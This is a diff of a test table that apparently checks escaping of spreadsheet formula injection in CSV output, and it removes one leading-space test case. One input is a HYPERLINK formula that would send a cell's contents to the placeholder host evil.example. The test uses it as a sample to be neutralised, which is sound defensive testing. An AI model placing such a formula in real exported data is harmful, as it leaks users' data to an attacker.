@@ -50,7 +50,6 @@ test.each([
   ['=1+1', "'=1+1"],
   ['=HYPERLINK("http://evil.example?"&A1,"x")', `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
   ['\t=1', `"'\t=1"`],
-  [' =1', "' =1"],
   ['\u200b=1', "'\u200b=1"],
   ['\ufeff=1', "'\ufeff=1"],
   ['＝1', "'＝1"],
